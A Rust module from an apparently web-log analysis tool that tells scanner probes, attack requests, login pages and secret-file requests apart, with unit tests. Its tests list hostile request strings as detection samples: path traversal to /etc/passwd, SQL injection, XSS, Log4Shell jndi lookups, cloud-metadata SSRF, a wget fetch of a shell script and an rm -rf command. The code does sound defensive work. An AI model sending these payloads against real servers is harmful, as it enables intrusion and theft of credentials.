//! What one request gives away by itself: who asks, for what kind of path, and what bytes are no request. Pure functions of
//! bytes as they stand in the log; they know no other request, no status and no clock. The lists are data.

mod agent;
mod asset;
mod foreign;
mod lists;
mod paths;
mod text;

use aho_corasick::{AhoCorasick, AhoCorasickKind};
use hashbrown::HashSet;
use paths::{Patterns, Segments};
use std::borrow::Cow;
use std::sync::LazyLock;

pub(super) use agent::{actor, agent_family};
pub(super) use asset::is_hashed;
pub(super) use foreign::{foreign, foreign_line};

type Set = HashSet<&'static [u8]>;

static PROBE: LazyLock<Patterns> = LazyLock::new(|| Patterns::new(lists::PROBE));
static WELLKNOWN: LazyLock<Patterns> = LazyLock::new(|| Patterns::new(lists::WELLKNOWN));
static SECRET: LazyLock<Patterns> = LazyLock::new(|| Patterns::new(lists::SECRET));
static ARCHIVE_NAMES: LazyLock<Set> = LazyLock::new(|| set(lists::ARCHIVE_NAMES));
static ARCHIVE_ENDINGS: LazyLock<Set> = LazyLock::new(|| set(lists::ARCHIVE_ENDINGS));
static PROBE_UNLESS_STATIC: LazyLock<Set> = LazyLock::new(|| set(lists::PROBE_UNLESS_STATIC));
static CALLED_BY_PAGES: LazyLock<Set> = LazyLock::new(|| set(lists::CALLED_BY_PAGES));
static LOGIN: LazyLock<Set> = LazyLock::new(|| set(lists::LOGIN));
static PROSE: LazyLock<Set> = LazyLock::new(|| set(lists::PROSE));
static STATIC: LazyLock<Set> = LazyLock::new(|| set(lists::STATIC_EXTENSIONS));
static PROBE_QUERY: LazyLock<AhoCorasick> = LazyLock::new(|| words(lists::PROBE_QUERY));
static ATTACK: LazyLock<AhoCorasick> = LazyLock::new(|| words(lists::ATTACK));
static ATTACK_RAW: LazyLock<AhoCorasick> = LazyLock::new(|| words(lists::ATTACK_RAW));

fn set(list: &[&'static str]) -> Set {
    list.iter().map(|word| word.as_bytes()).collect()
}

/// Finds any of some words, whatever their case.
fn words(list: &[&str]) -> AhoCorasick {
    let built = AhoCorasick::builder().ascii_case_insensitive(true).kind(Some(AhoCorasickKind::NoncontiguousNFA)).build(list);
    built.expect("a list of a few hundred words is far below the limits")
}

/// The path of a target in absolute form, `http://host/path`, as Varnish logs it; other paths as they are.
fn bare(path: &[u8]) -> &[u8] {
    let scheme = [b"http://".as_slice(), b"https://"].into_iter().find(|s| path.get(..s.len()).is_some_and(|p| p.eq_ignore_ascii_case(s)));
    scheme.map_or(path, |scheme| {
        let rest = &path[scheme.len()..];
        memchr::memchr(b'/', rest).map_or(b"/", |at| &rest[at..])
    })
}

/// Whether a path is one that is asked for by those who look for a way in.
pub(super) fn is_probe(path: &[u8]) -> bool {
    probes(&Segments::of(&text::folded(bare(path))))
}

/// The same for a query.
pub(super) fn is_probing_query(query: &[u8]) -> bool {
    PROBE_QUERY.is_match(&*text::folded(query))
}

fn probes(path: &Segments) -> bool {
    let (all, last) = (path.all(), path.last());
    // Shells are hidden where nobody looks; a well-known file is no script.
    PROBE.speak_of(path)
        || (all.first() == Some(&b".well-known".as_slice()) && last.ends_with(b".php"))
        || matches!(all, [file] if is_archive(file))
        || (all.iter().any(|s| PROBE_UNLESS_STATIC.contains(s)) && !CALLED_BY_PAGES.contains(last) && !has_static_ending(last))
}

/// `backup.zip`, `www.tar.gz`.
fn is_archive(file: &[u8]) -> bool {
    memchr::memchr(b'.', file).is_some_and(|dot| ARCHIVE_NAMES.contains(&file[..dot]) && ARCHIVE_ENDINGS.contains(&file[dot + 1..]))
}

/// A script that a probe asks for may end in `.txt` (a plugin's readme), a page's own files do not.
fn has_static_ending(file: &[u8]) -> bool {
    file_extension(file).is_some_and(|ending| ending != b"txt" && STATIC.contains(ending))
}

/// Whether a path carries the mark of an attack: a way out of the root, a database's or a shell's language.
pub(super) fn is_attack(path: &[u8]) -> bool {
    is_raw_attack(path) || {
        let path = text::folded(bare(path));
        path.starts_with(b"/../") || ATTACK.is_match(&*path)
    }
}

/// The same for a query.
pub(super) fn is_attacking_query(query: &[u8]) -> bool {
    is_raw_attack(query) || {
        // Decoded twice: what one layer lets through, the next one takes apart.
        let once = plus_is_space(text::folded(query));
        ATTACK.is_match(&*once) || (once.contains(&b'%') && ATTACK.is_match(&*text::folded(&once)))
    }
}

fn is_raw_attack(bytes: &[u8]) -> bool {
    memchr::memchr2(b'%', b'\\', bytes).is_some() && ATTACK_RAW.is_match(bytes)
}

fn plus_is_space(query: Cow<[u8]>) -> Cow<[u8]> {
    if !query.contains(&b'+') {
        return query;
    }
    Cow::Owned(query.iter().map(|&b| if b == b'+' { b' ' } else { b }).collect())
}

/// Whether a path is one that clients ask for unbidden: a favicon, robots.txt, a well-known file.
pub(super) fn is_wellknown(path: &[u8]) -> bool {
    let path = text::folded(bare(path));
    let segments = Segments::of(&path);
    WELLKNOWN.speak_of(&segments) && !segments.last().ends_with(b".php")
}

/// Whether a path would give secrets away if it were there.
pub(super) fn is_secret(path: &[u8]) -> bool {
    let path = text::folded(bare(path));
    let segments = Segments::of(&path);
    SECRET.speak_of(&segments) || matches!(segments.all(), [file] if is_archive(file))
}

/// Whether a path is that of a login, a session or a token; those that only scanners try are not.
pub(super) fn is_login(path: &[u8]) -> bool {
    let path = text::folded(bare(path));
    let segments = Segments::of(&path);
    let skipped = segments.all().iter().take_while(|s| is_preamble(s)).count();
    let rest = &segments.all()[skipped..];
    let Some((last, before)) = rest.split_last() else { return false };
    if before.first().is_some_and(|first| PROSE.contains(first)) || file_extension(last).is_some_and(is_file) {
        return false;
    }
    let stem = &last[..memchr::memchr(b'.', last).unwrap_or(last.len())];
    (LOGIN.contains(stem) || before.iter().take(2).any(|s| LOGIN.contains(s))) && !probes(&segments)
}

/// What says nothing of what is behind: `api`, `v2`, a language.
fn is_preamble(segment: &[u8]) -> bool {
    match segment {
        b"api" | b"rest" | b"app" => true,
        [b'v', digits @ ..] => !digits.is_empty() && digits.iter().all(u8::is_ascii_digit),
        [a, b] | [a, b, b'-' | b'_', _, _] => a.is_ascii_lowercase() && b.is_ascii_lowercase(),
        _ => false,
    }
}

/// A file of a kind that is no page: nobody logs in there.
fn is_file(extension: &[u8]) -> bool {
    STATIC.contains(extension) && !matches!(extension, b"html" | b"htm")
}

/// Whether a path is that of a file that is served as it lies on the disk, by its extension.
pub(super) fn is_static(path: &[u8]) -> bool {
    extension(path).is_some_and(|extension| STATIC.contains(extension.as_bytes()))
}

/// The extension of a path in lower case, without its dot; `None` where nothing behind a dot looks like one.
pub(super) fn extension(path: &[u8]) -> Option<Cow<'_, str>> {
    let file = path.rsplit(|&b| b == b'/').next()?;
    let extension = std::str::from_utf8(file_extension(file)?).ok()?;
    Some(if extension.bytes().any(|b| b.is_ascii_uppercase()) { extension.to_ascii_lowercase().into() } else { extension.into() })
}

/// Of a file's name: one to ten letters and digits, a letter among them, behind a dot that is not the first byte.
fn file_extension(file: &[u8]) -> Option<&[u8]> {
    let dot = memchr::memrchr(b'.', file).filter(|&dot| dot > 0)?;
    let extension = &file[dot + 1..];
    let plain = extension.len() <= 11 && extension.iter().all(u8::is_ascii_alphanumeric) && extension.iter().any(u8::is_ascii_alphabetic);
    plain.then_some(extension)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn target(target: &str) -> (&[u8], Option<&[u8]>) {
        let (path, query) = target.split_once('?').map_or((target, None), |(path, query)| (path, Some(query)));
        (path.as_bytes(), query.map(str::as_bytes))
    }

    fn is_probe_target(path: &[u8], query: Option<&[u8]>) -> bool {
        is_probe(path) || query.is_some_and(is_probing_query)
    }

    fn is_attack_target(path: &[u8], query: Option<&[u8]>) -> bool {
        is_attack(path) || query.is_some_and(is_attacking_query)
    }

    fn each(function: impl Fn(&[u8], Option<&[u8]>) -> bool, yes: &[&str], no: &[&str]) {
        for (expected, targets) in [(true, yes), (false, no)] {
            for text in targets {
                let (path, query) = target(text);
                assert_eq!(function(path, query), expected, "{text}");
            }
        }
    }

    #[test]
    fn probes_are_what_scanners_try() {
        let yes = [
            "/wp-login.php",
            "//wp-login.php",
            "/blog/wp-login.php",
            "/xmlrpc.php",
            "/wp-admin/setup-config.php",
            "/wp-admin/",
            "/wp-content/plugins/hello.php",
            "/wp-content/plugins/x/readme.txt",
            "/.env",
            "/laravel/.env",
            "/.env.production",
            "/%2eenv",
            "/.git/config",
            "/.git/HEAD",
            "/.aws/credentials",
            "/.DS_Store",
            "/id_rsa",
            "/phpmyadmin/index.php",
            "/phpMyAdmin-5.1.1/index.php",
            "/pma/",
            "/adminer.php",
            "/backup.sql",
            "/old.zip",
            "/www.tar.gz",
            "/admin.bak",
            "/dump.tar.gz",
            "/config.json",
            "/solr/admin/info/system",
            "/cgi-bin/luci",
            "/cgi-bin/luci/;stok=/locale",
            "/manager/html",
            "/actuator/env",
            "/HNAP1/",
            "/boaform/admin/formLogin",
            "/shell?cd+/tmp;rm+-rf+*",
            "/owa/auth/logon.aspx",
            "/server-status",
            "/telescope/requests",
            "/debug/default/view",
            "/console/",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
            "/remote/login",
            "/+CSCOE+/logon.html",
            "/?rest_route=/wp/v2/users",
            "/.well-known/wso.php",
            "http://192.0.2.7/.env",
            "/backup/",
        ];
        let no = [
            "/",
            "/environment",
            "/environment/.envelope",
            "/blog/wp-login-explained",
            "/docs/phpmyadmin",
            "/cgi-bin/feedback.py",
            "/.well-known/security.txt",
            "/wp-content/themes/acme/style.css",
            "/wp-includes/js/jquery/jquery.min.js",
            "/wp-content/uploads/2026/photo.jpg",
            "/wp-admin/admin-ajax.php",
            "/actuator/health",
            "/healthz",
            "/downloads/product-2.0.zip",
            "/old/page.html",
            "/index.php",
            "/login",
            "/admin/",
            "/api/v1/cart",
            "/gitlab/project",
            "/shells",
            "/shop/backup-drives",
            "/config",
            "/search?q=phpinfo",
            "/assets/config.json",
            "/favicon.ico",
            "/blog/.git-explained/",
        ];
        each(is_probe_target, &yes, &no);
    }

    #[test]
    fn attacks_are_seen_through_their_encodings() {
        let yes = [
            "/../../etc/passwd",
            "/cgi-bin/.%2e/%2e%2e/bin/sh",
            "/a?file=../../../../etc/passwd",
            "/a?file=..%2f..%2fetc%2fpasswd",
            "/a?f=%252e%252e%252fetc",
            "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction",
            r"/index.php?s=/Index/\\think\\app/invokefunction",
            "/?id=1+UNION+SELECT+1,2,3",
            "/?id=1%20union%20all%20select%20null",
            "/?id=1'%20or%201=1--",
            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "/?x=${jndi:ldap://192.0.2.1/a}",
            "/$%7Bjndi:ldap://192.0.2.1/a%7D",
            "/?x=%24%7B%24%7Blower:j%7D",
            "/shell?cd+/tmp;rm+-rf+*",
            "/?name={{7*7}}",
            "/?url=http://169.254.169.254/latest/meta-data/",
            "/a%00.jpg",
            "/?a=php://input",
            "/?-d+allow_url_include%3d1",
            "/?id=1%3BWAITFOR%20DELAY%20'0:0:5'",
            "/?q=%2553leep(5)",
            "/static/..;/manager/html",
            "/a?class.module.classLoader.resources=x",
            "/?cmd=wget+http://192.0.2.1/x.sh",
        ];
        let no = [
            "/",
            "/docs/../img/x.png",
            "/search?q=trade+union+members",
            "/search?q=how+to+sleep",
            "/search?q=a%20b%26c",
            "/api/v1/items?filter=price%3E10&sort=-name",
            "/wiki/SQL_UNION",
            "/search?q=O%27Reilly",
            "/cb?url=https%3A%2F%2Fexample.com%2Fpath%3Fa%3Db",
            "/caf%C3%A9",
            "/100%",
            "/p?cmd=_xclick&business=shop",
            "/a..b/c",
            "/v1..v2/compare",
            "/?q=1+1=2",
            "/x?t=%7B%22a%22%3A1%7D",
            "/books/the-select-union/",
        ];
        each(is_attack_target, &yes, &no);
    }

    #[test]
    fn wellknown_files_are_no_probes() {
        let yes = [
            "/favicon.ico",
            "/shop/favicon.ico",
            "/favicon-32x32.png",
            "/apple-touch-icon.png",
            "/apple-touch-icon-120x120-precomposed.png",
            "/robots.txt",
            "/sitemap.xml",
            "/sitemap.xml.gz",
            "/sitemap-products-1.xml",
            "/ads.txt",
            "/app-ads.txt",
            "/.well-known/security.txt",
            "/.well-known/acme-challenge/abc",
            "/browserconfig.xml",
            "/manifest.json",
            "/site.webmanifest",
            "/static/js/app.3f9a1c2e.js.map",
            "/crossdomain.xml",
            "/humans.txt",
            "http://blog.example.org/favicon.ico",
        ];
        let no = [
            "/",
            "/robots",
            "/favicons/",
            "/assets/manifest.json",
            "/map",
            "/sitemap",
            "/.well-known/wso.php",
            "/well-known/x",
            "/apple",
            "/static/app.js",
        ];
        each(|path, _| is_wellknown(path), &yes, &no);
        each(is_probe_target, &[], &yes);
    }

    #[test]
    fn logins_are_pages_and_endpoints_not_talk_about_them() {
        let yes = [
            "/login",
            "/login/",
            "/login.html",
            "/Login.aspx",
            "/api/v1/login",
            "/de/login",
            "/en-us/account/signin",
            "/api/v2/auth/token",
            "/oauth/authorize",
            "/users/sign_in",
            "/session",
            "/auth/realms/acme/protocol/openid-connect/token",
            "/users/auth/github/callback",
            "/accounts/login.php",
            "/admin/login",
            "/j_security_check",
            "/sso/saml",
        ];
        let no = [
            "/",
            "/blog/login-explained",
            "/blog/login",
            "/docs/auth/tokens",
            "/assets/js/login.js",
            "/static/login.css",
            "/author",
            "/authors/1",
            "/wp-login.php",
            "/api/v1/cart",
            "/tokenizer",
            "/loginscreen.png",
            "/api/reports/2024/sessions/7",
            "/docs/guide/",
        ];
        each(|path, _| is_login(path), &yes, &no);
    }

    #[test]
    fn secrets_are_what_must_not_be_there() {
        let yes = [
            "/.env",
            "/api/.env",
            "/.git/config",
            "/id_rsa",
            "/backup.sql",
            "/wp-config.php.bak",
            "/site.tar.gz",
            "/actuator/heapdump",
            "/.htpasswd",
        ];
        let no = ["/", "/wp-login.php", "/phpmyadmin/", "/robots.txt", "/wp-config.php", "/downloads/app.zip", "/actuator/health"];
        each(|path, _| is_secret(path), &yes, &no);
    }

    #[test]
    fn extensions_are_told_from_dots() {
        for (path, expected) in [
            ("/app.js", Some("js")),
            ("/A.JPG", Some("jpg")),
            ("/a.tar.gz", Some("gz")),
            ("/inter.woff2", Some("woff2")),
            ("/.env", None),
            ("/v1.2", None),
            ("/a.b/c", None),
            ("/", None),
            ("", None),
            ("/a.", None),
            ("/a.b%20c", None),
            ("/x.averyverylongone", None),
        ] {
            assert_eq!(extension(path.as_bytes()).as_deref(), expected, "{path}");
        }
        assert!(is_static(b"/static/js/app.JS") && is_static(b"/contact.html") && is_static(b"/media/v16.mp4"));
        assert!(!is_static(b"/index.php") && !is_static(b"/api/v1/users") && !is_static(b"/feed.xml") && !is_static(b"/data.json"));
    }

    #[test]
    fn hostile_targets_are_answered() {
        for bytes in [&b"\xff\xfe%"[..], b"%", b"%%%%", b"\\", b"\\x", b"\\u12", b"////", b"http://", b"https://x"] {
            let _ = (is_probe_target(bytes, Some(bytes)), is_attack_target(bytes, Some(bytes)));
            let _ = (is_wellknown(bytes), is_login(bytes), is_secret(bytes));
            let _ = (is_static(bytes), is_hashed(bytes), extension(bytes), foreign(bytes));
        }
    }
}
